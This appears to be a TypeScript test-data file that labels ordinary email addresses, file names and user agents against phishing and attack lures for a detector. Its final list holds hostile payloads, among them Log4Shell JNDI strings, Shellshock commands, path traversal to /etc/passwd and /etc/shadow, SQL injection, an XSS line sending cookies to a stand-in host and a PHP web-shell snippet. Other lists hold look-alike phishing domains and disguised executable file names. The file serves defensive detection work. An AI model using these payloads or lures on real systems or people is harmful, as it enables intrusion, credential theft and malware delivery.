import { type Entry, lureTexts, texts, word } from '../entry.ts'

const lines = (text: string) => text.trim().split(/\s*\n\s*/)
const list = (text: string) => text.trim().split(/\s+/)

const mailboxes =
  list(`jane.doe@acme.example info@wikipedia.org support@github.com noreply@github.com
  no-reply@accounts.google.com account-security-noreply@accountprotection.microsoft.com service@paypal.de
  service@intl.paypal.com auto-confirm@amazon.de shipment-tracking@amazon.co.uk no_reply@email.apple.com
  noreply@email.apple.com info@account.netflix.com security@facebookmail.com messages-noreply@linkedin.com
  dse_NA4@docusign.net no-reply@dropbox.com noreply@steampowered.com noreply@dhl.de pkginfo@ups.com
  TrackingUpdates@fedex.com USPSInformeddelivery@email.informeddelivery.usps.com kundenservice@postfinance.ch
  info@sbb.ch newsletter@zalando.de news@e.ikea.com hello@notion.so team@mail.figma.com jira@acme.atlassian.net
  notifications@acme.zendesk.com bounces+123-abc-jane=acme.example@em1234.acme.example
  bounce-mc.us12_1234567.7654321-abc@mail123.suw17.mcsv.net 0102018f-1a2b-000000@eu-west-1.amazonses.com
  dev@lists.apache.org debian-user@lists.debian.org git@vger.kernel.org python-list-bounces@python.org
  maria.garcia@gmail.com hans.mueller@gmx.de jean.dupont@orange.fr lucie.martin@free.fr p.rossi@libero.it
  kontakt@müller.de webmaster@example.org postmaster@[192.0.2.4] root@localhost jane+news@acme.example
  o'brien@acme.example first.last@sub.acme.co.uk rechnung@telekom.de kundendienst@migros.ch invoice@stripe.com
  billing@digitalocean.com no-reply@zoom.us calendar-notification@google.com contact@labanquepostale.fr`)

const fileNames = lines(`
  Invoice 2026-0042.pdf
  Rechnung_4711.pdf
  facture-juin-2026.pdf
  Minutes of the meeting 1.6.2026.docx
  Q2 report v1.2 final (2).xlsx
  budget.2026.xlsx
  slides.v3.pptx
  photo.2026-06-01.jpg
  IMG_20260601_101112.jpg
  IMG_0001.HEIC
  Screenshot 2026-06-01 at 10.11.12.png
  scan0001.tif
  archive.tar.gz
  backup-2026-06-01.sql.gz
  jquery.min.js
  app.3f2a9c1b.js
  index.d.ts
  vite.config.ts
  docker-compose.prod.yml
  README.md
  LICENSE.txt
  setup.exe
  Git-2.47.0-64-bit.exe
  VSCodeUserSetup-x64-1.95.3.exe
  7z2408-x64.msi
  jre-8u421-windows-x64.exe
  node-v24.0.0-x64.msi
  install.sh
  build.ps1
  run.bat
  deploy.cmd
  script.py
  main.cpp
  libfoo.so.1.2.3
  kernel32.dll
  com.company.app.plist
  org.gnome.Terminal.desktop
  Übersicht für Müller.docx
  Présentation générale.pptx
  日本語の資料.pdf
  отчёт за июнь.docx
  تقرير يونيو.pdf
  דוח.docx
  meeting.ics
  contacts.vcf
  message.eml
  Re_ Question about the order.msg
  export.csv
  data.json
  config.xml
  letter.odt
  sheet.ods
  certificate.p7b
  server.crt
  podcast.mp3
  holiday.mov
  font.woff2
  model.step
  drawing.dwg
  book.epub
  disk.iso
  ubuntu-24.04-desktop-amd64.iso
  virtualbox.vdi
  types.d.mts
  report.pdf.sig
  document.pdf.asc
  release.tar.gz.sha256
  photo.jpg.webp
  access.log.1.gz
  chart.js
  socket.io.js
  example.com.conf
  Dr. A. Smith - CV.pdf
  1.5.2 Release notes.html
  test.spec.ts`)

const browsers = lines(`
  Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
  Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.2849.68
  Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0
  Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0
  Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0
  Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15
  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1
  Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1
  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1
  Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36
  Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/27.0 Chrome/125.0.0.0 Mobile Safari/537.36
  Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36
  Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
  Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36 OPR/114.0.0.0
  Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Vivaldi/7.0.3495.11
  Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:109.0) Gecko/20100101 Firefox/115.0 Thunderbird/115.16.0
  Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
  Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
  Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)
  Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)
  Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)
  facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)
  Twitterbot/1.0
  LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)
  Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)
  WhatsApp/2.24.20.89 A
  Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)
  Microsoft-CryptoAPI/10.0
  Microsoft-Delivery-Optimization/10.0
  Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50
  Debian APT-HTTP/1.3 (2.6.1)
  git/2.47.0
  curl/8.11.0
  Wget/1.24.5
  npm/10.9.0 node/v24.0.0 linux x64 workspaces/false
  pip/24.3.1 {"ci":null,"cpu":"x86_64","distro":{"name":"Debian GNU/Linux","version":"12"},"implementation":{"name":"CPython","version":"3.11.2"}}
  docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.8.0-48-generic os/linux arch/amd64 UpstreamClient(Docker-Client/27.3.1 \\(linux\\))
  Go-http-client/2.0
  okhttp/4.12.0
  axios/1.7.7
  node-fetch/1.0 (+https://github.com/bitinn/node-fetch)
  Apache-HttpClient/4.5.14 (Java/17.0.13)
  Java/17.0.13
  Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A.240805.005)
  PostmanRuntime/7.42.0
  Prometheus/2.55.0
  kube-probe/1.31
  ELB-HealthChecker/2.0
  Amazon CloudFront
  UptimeRobot/2.0; http://www.uptimerobot.com/
  VLC/3.0.21 LibVLC/3.0.21
  AppleCoreMedia/1.0.0.22B83 (iPhone; U; CPU OS 18_1 like Mac OS X; en_us)
  CFNetwork/1568.200.51 Darwin/24.1.0
  iTunes/12.13.2 (Windows; Microsoft Windows 10 x64)
  Spotify/8.9.82 iOS/18.1 (iPhone15,2)
  Dropbox/211.4.6008 (Windows 10)
  Zoom.us/6.2 (Windows NT 10.0)`)

/** Right-to-left override; written as an escape, because editors would turn this line around. */
const turn = '\u202e'

const address = /^(?:mail|domain|address|lists)[.-]/
const name = /^(?:file|filename|name|archive)[.-]/
const agent = /^user-agent\./

export const labelEntries = (): Entry[] => [
  ...texts('mail address', 'ordinary mailboxes', mailboxes, 'mail'),
  ...lureTexts(
    'mail address',
    'look-alike domains',
    address,
    list(`support@rnicrosoft.com billing@paypa1.com no-reply@amaozn.com service@paypal-secure-login.com
      security@app1e.com info@netflx.com parcel@mydhl-online.com hello@coinnbase.com it@micros0ft-support.com
      kundenservice@postfinace.ch contact@labanquepostale-securite.com facture@orange-facture.net
      docs@docusgin.com accounts@gooogle.com tracking@dhl-tracking-parcel.com`),
    'mail',
  ),
  ...lureTexts(
    'mail address',
    'free mail posing as a brand',
    address,
    list(`paypal.support@gmail.com microsoft-security@outlook.com apple.id.verification@gmail.com
      amazon-customer-service@yahoo.com netflix.billing@hotmail.com dhl.express.delivery@gmail.com
      postfinance.sicherheit@gmx.ch labanquepostale.service@gmail.com`),
    'mail',
  ),
  ...lureTexts(
    'mail address',
    'disposable',
    address,
    list(`x7f3@mailinator.com check@guerrillamail.com user12@10minutemail.com abc@yopmail.com`),
    'mail',
  ),
  ...texts('file name', 'ordinary files', fileNames, 'filename'),
  ...texts(
    'file name',
    'disk images',
    ['ubuntu-24.04.iso', 'Film.mp4.iso', 'disk.img', 'readme.txt.img', 'Notes.one'],
    'filename',
  ),
  ...lureTexts(
    'file name',
    'disk images with the name of a document',
    name,
    ['scan_0001.pdf.iso', 'Offer.docx.img', 'Photos.jpg.vhdx', 'Plan.xlsx.one'],
    'filename',
  ),
  ...lureTexts(
    'file name',
    'two endings',
    name,
    lines(`
    invoice.pdf.exe
    Rechnung_2026.pdf.js
    facture.docx.scr
    photo.jpg.com
    Contract.xlsx.vbs
    scan0001.pdf.lnk
    payslip.pdf.hta
    factura.pdf.bat
    Order 4711.doc.wsf
    CV_Jane.docx.cmd
    report.pdf.ps1
    statement.pdf.msi
    voice message.mp3.html.js`),
    'filename',
  ),
  ...lureTexts(
    'file name',
    'turned around',
    name,
    [
      `invoice${turn}fdp.exe`,
      `photo${turn}gpj.scr`,
      `Offer${turn}xcod.js`,
      `list\u2067xslx.\u2069bat`,
    ],
    'filename',
  ),
  ...lureTexts(
    'file name',
    'spaces before the ending',
    name,
    [
      `invoice.pdf${' '.repeat(60)}.exe`,
      `agenda.docx${'\u00a0'.repeat(40)}.scr`,
      `photo.jpg${' '.repeat(100)}.js`,
      `plan.xlsx${'_'.repeat(80)}.vbs`,
    ],
    'filename',
  ),
  ...lureTexts(
    'file name',
    'letters that look alike',
    name,
    ['invоice.pdf.ехe', 'rеport.рdf.exe', 'document.pdf․exe', 'scan.pdf\u200b.exe', 'setup.еxe'],
    'filename',
  ),
  ...lureTexts(
    'file name',
    'words of a lure with a program',
    name,
    lines(`
    Payment_Advice_Swift_Copy.exe
    Invoice_OVERDUE_778.js
    Urgent_Purchase_Order.scr
    DHL_Shipment_Document.vbs
    Bewerbung_Lebenslauf.exe
    Rechnung_Mahnung_8812.js
    Facture_impayee.hta
    Resume_Application.lnk`),
    'filename',
  ),
  ...texts('user agent', 'browsers and programs', browsers, 'user-agent'),
  ...lureTexts(
    'user agent',
    'tools of attackers',
    agent,
    lines(`
    sqlmap/1.8.11#stable (https://sqlmap.org)
    Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)
    Fuzz Faster U Fool v2.1.0-dev
    ffuf/2.1.0
    Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)
    commix/v4.0-stable (https://commixproject.com)
    Mozilla/5.0 (Hydra)
    Mozilla/4.0 (Hydra)
    Havij
    Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727) Havij
    gobuster/3.6
    DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)
    feroxbuster/2.11.0
    WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)
    masscan/1.3 (https://github.com/robertdavidgraham/masscan)
    zgrab/0.x
    Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
    Wfuzz/3.1.0
    Arachni/v1.6.1
    w3af.org
    Acunetix-Scanner
    Nessus SOAP
    OpenVAS
    dirsearch
    jaeles v0.17
    XSStrike
    Mozilla/5.0 zgrab/0.x
    patator`),
    'user-agent',
  ),
  ...lureTexts(
    'user agent',
    'attacks in it',
    agent,
    [
      word('$', '{jndi:ldap://5.6.7.8/a}'),
      word('$', '{$', '{lower:j}ndi:$', '{lower:l}dap://files.example.net/x}'),
      '() { :; }; /bin/bash -c "id"',
      '() { _; } >_[$($())] { echo 1; }',
      '../../../../../../etc/passwd',
      'Mozilla/5.0 ..%2f..%2f..%2f..%2fetc%2fpasswd',
      'Mozilla/5.0 ....//....//....//etc/shadow',
      '..\\..\\..\\windows\\win.ini',
      "Mozilla/5.0' OR '1'='1' -- ",
      "' UNION SELECT user,password FROM users-- -",
      "1' AND SLEEP(5)#",
      `<script>fetch('//collect.example.net/'+document.cookie)</script>`,
      word('<?p', 'hp sys', 'tem($_GET["c"]); ?>'),
    ],
    'user-agent',
  ),
]
